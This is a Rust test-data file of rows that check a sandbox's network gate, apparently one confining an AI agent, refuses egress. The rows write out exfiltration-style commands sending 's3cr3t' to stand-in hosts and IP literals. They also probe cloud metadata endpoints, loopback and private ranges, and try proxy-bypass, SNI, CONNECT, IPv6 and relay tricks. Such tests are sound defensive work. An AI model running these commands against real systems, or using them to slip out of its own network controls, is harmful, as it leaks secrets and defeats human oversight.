//! Rows about addresses, ports and transports: past the names. Played by [`super::network`].

use super::Row;

/// What is allowed.
const GOOD: &str = "req https://good.example/hello | fine 'welcome /hello'";

pub const ROWS: &[Row] = &[
    Row::new("a host off the list, plain HTTP", "req http://plain.evil.example/s3cr3t", &["x-bb-deny: route_missing"])
        .denied("route_missing", "plain.evil.example")
        .twin("req http://good.example/hello | fine 'welcome /hello'")
    .covers(&[21]),
    Row::new("an IP address, TLS", "req -k https://93.184.216.200/s3cr3t", &["x-bb-deny: ip_literal"])
        .denied("ip_literal", "93.184.216.200")
    .covers(&[11, 18]),
    Row::new("an IP address, plain", "req http://8.8.8.8/s3cr3t", &["x-bb-deny: ip_literal"])
        .denied("ip_literal", "8.8.8.8")
    .covers(&[18]),
    Row::new(
        "an IP address with the Host of a listed name",
        "req -H 'Host: good.example' http://8.8.4.4/s3cr3t",
        &["x-bb-deny: ip_literal"],
    )
    .covers(&[18]),
    Row::new(
        "an IP address with the SNI of a listed name",
        "req --resolve good.example:443:8.8.4.4 https://good.example/s3cr3t",
        &["x-bb-deny: ip_literal"],
    )
    .twin(GOOD)
    .covers(&[19]),
    Row::new("a raw connection to an address", "try tcp 198.51.100.7 9000 s3cr3t", &["ECONNREFUSED"])
        .denied("port", "198.51.100.7"),
    Row::new("a raw connection to ssh", "try tcp 140.82.112.3 22 s3cr3t", &["ECONNREFUSED"])
        .denied("port", "140.82.112.3")
    .covers(&[12]),
    Row::new("IPv6, plain", "req -g 'http://[2001:db8::1]/s3cr3t'", &["x-bb-deny: ip_literal"])
        .denied("ip_literal", "2001:db8::1")
    .covers(&[16]),
    Row::new("IPv6, raw", "try tcp 2606:4700::1111 8080 s3cr3t", &["ECONNREFUSED"]).denied("port", "2606:4700::1111")
    .covers(&[16]),
    Row::new("IPv4 in IPv6", "req -g 'http://[::ffff:8.8.8.8]/s3cr3t'", &["x-bb-deny: ip_literal"])
    .covers(&[16]),
    Row::new("the cloud's metadata", "req http://169.254.169.254/latest/meta-data/", &["x-bb-deny: ip_literal"])
        .denied("ip_literal", "169.254.169.254")
    .covers(&[13]),
    Row::new("a private network", "req http://10.0.0.1/; req http://192.168.1.1/", &[])
        .each(&[("x-bb-deny: ip_literal", 2)])
    .covers(&[14]),
    Row::new("the gate itself", "try tcp 198.18.0.3 22; try tcp 198.18.0.3 8080", &[]).each(&[("ECONNREFUSED", 2)])
    .covers(&[14]),
    Row::new("another port of a listed host", "req https://good.example:8443/s3cr3t", &["x-bb-deny: port"])
        .denied("port", "good.example")
        .twin("req https://ports.example:8443/hello | fine 'welcome /hello'")
    .covers(&[12, 18]),
    Row::new(
        "the usual port of a host listed with another one",
        "req https://ports.example/s3cr3t",
        &["x-bb-deny: port"],
    )
    .denied("port", "ports.example")
    .covers(&[18]),
    Row::new("ssh of a listed host", "try tcp good.example 22 s3cr3t", &["ECONNREFUSED"])
        .denied("port", "good.example")
    .covers(&[12]),
    Row::new("UDP to a listed host (QUIC)", "try udp good.example 443 s3cr3t", &["ECONNREFUSED"])
        .denied("port", "good.example")
    .covers(&[17]),
    Row::new("UDP to an address", "try udp 9.9.9.9 123 s3cr3t", &["ECONNREFUSED"]).denied("port", "9.9.9.9")
    .covers(&[17]),
    Row::new(
        "a listed name of the metadata service",
        "req http://metadata.example/s3cr3t",
        &["x-bb-deny: private_address"],
    )
    .covers(&[5, 13]),
    Row::new("a listed name of the host itself", "req http://local.example/s3cr3t", &["x-bb-deny: private_address"])
    .covers(&[5, 15]),
    Row::new("a raw socket (ping)", "try family 2 3 1", &["EPERM"])
    .covers(&[17]),
    Row::new("a packet socket", "try family 17 3 0", &["EAFNOSUPPORT"])
    .covers(&[17, 45]),
    Row::new(
        "a changed route",
        "ip route replace default via 198.18.0.2; ip link set eth0 down; ip addr add 1.2.3.4/8 dev lo",
        &[],
    )
    .each(&[("Operation not permitted", 3)])
    .twin(GOOD)
    .embedded_only("a container has no link of its own that could be changed")
    .covers(&[52]),
    Row::new("CONNECT to an address, and to other ports of a listed name", "for t in 8.8.8.8:443 good.example:22 good.example:25 good.example:6379; do try raw good.example 80 'CONNECT '$t' HTTP/1.1\\r\\nHost: '$t'\\r\\nConnection: close\\r\\n\\r\\n'; done", &[])
        .each(&[("x-bb-deny: method", 4)])
        .covers(&[11, 12]),
    Row::new("TLS that names nobody", "req -k https://93.184.216.201/s3cr3t; try sni 93.184.216.202 443 evil.example", &["x-bb-deny: ip_literal"])
        .each(&[("welcome", 0)])
        .covers(&[11]),
    Row::new("other ports of a listed host", "for p in 25 6379 5432 9418; do try tcp good.example $p s3cr3t; done", &[])
        .each(&[("ECONNREFUSED", 4)])
        .covers(&[12]),
    Row::new(
        "other clouds' metadata",
        "req http://100.100.100.200/latest; req http://168.63.129.16/machine; req -g 'http://[fd00:ec2::254]/latest'; req -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/",
        &["x-bb-deny: route_missing"],
    )
    .each(&[("x-bb-deny: ip_literal", 3)])
    .denied("route_missing", "metadata.google.internal")
    .covers(&[13]),
    Row::new("carriers' and local ranges", "req http://100.64.0.1/s; req http://172.17.0.1/s; req -g 'http://[fd12::1]/s'; try tcp 172.17.0.1 22 s3cr3t; try tcp 100.64.0.1 5900 s3cr3t", &[])
        .each(&[("x-bb-deny: ip_literal", 3), ("ECONNREFUSED", 2)])
        .covers(&[14]),
    Row::new(
        "services on the host's loopback",
        "for p in 22 5432 6379 8080; do try tcp 127.0.0.1 $p s3cr3t; done; try tcp ::1 6379 s3cr3t; req http://host.docker.internal/s3cr3t",
        &["x-bb-deny: route_missing"],
    )
    .each(&[("ECONNREFUSED", 5)])
    .twin("python3 -c 'import socket; l = socket.create_server((\"127.0.0.1\", 6379)); s = socket.create_connection((\"127.0.0.1\", 6379)); l.accept()'")
    .covers(&[15]),
    Row::new(
        "IPv4 in other IPv6: NAT64, 6to4, a zone",
        r"req -g 'http://[64:ff9b::808:808]/s'; req -g 'http://[2002:808:808::1]/s'; try raw good.example 80 'GET /s3cr3t HTTP/1.1\r\nHost: [fe80::1%25eth0]\r\nConnection: close\r\n\r\n'",
        &["x-bb-deny: name_mismatch"],
    )
    .each(&[("x-bb-deny: ip_literal", 2)])
    .covers(&[16]),
    Row::new("a datagram that has to be cut", "try send good.example 443 3000; try send 9.9.9.9 9000 3000", &[])
        .each(&[("got", 0)])
        .comes("`ECONNREFUSED`, or nothing at all")
        .covers(&[17]),
    Row::new("a server that offers QUIC", "req https://good.example/offers-quic; req --http1.1 https://good.example/offers-quic", &[])
        .each(&[("alt-svc", 0), ("welcome", 2)])
        .comes("the answer, without its `Alt-Svc`")
        .covers(&[17]),
    Row::new(
        "settings that tell clients to go past a proxy",
        "req --noproxy '*' https://evil.example/s; NO_PROXY='*' no_proxy='*' req https://evil.example/s; env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY bash -c 'curl -sS -m 8 -i https://evil.example/s'; req --connect-to evil.example:443:good.example:443 https://evil.example/s",
        &[],
    )
    .each(&[("x-bb-deny: ", 4)])
    .comes("refused (`route_missing`, `ip_literal`), each")
    .covers(&[19]),
    Row::new("a proxy of the agent's own choice", "ALL_PROXY=http://8.8.8.8:3128 req https://evil.example/s; ALL_PROXY=socks5h://8.8.8.8:1080 req https://evil.example/s; true", &[])
        .each(&[("curl: (", 2)])
        .comes("connection refused")
        .denied("port", "8.8.8.8")
        .covers(&[19]),
    Row::new("a relay of one's own", "try relay 18899 8.8.4.4 80 http://good.example/s3cr3t; try relay 18898 good.example 80 http://evil.example/s3cr3t; try relay 18897 198.51.100.7 9000 http://good.example/s3cr3t 2>&1 | tail -1", &[])
        .each(&[("x-bb-deny: ip_literal", 2), ("welcome", 0)])
        .twin("try relay 18896 good.example 80 http://good.example/hello | fine 'welcome /hello'")
        .covers(&[20]),
];
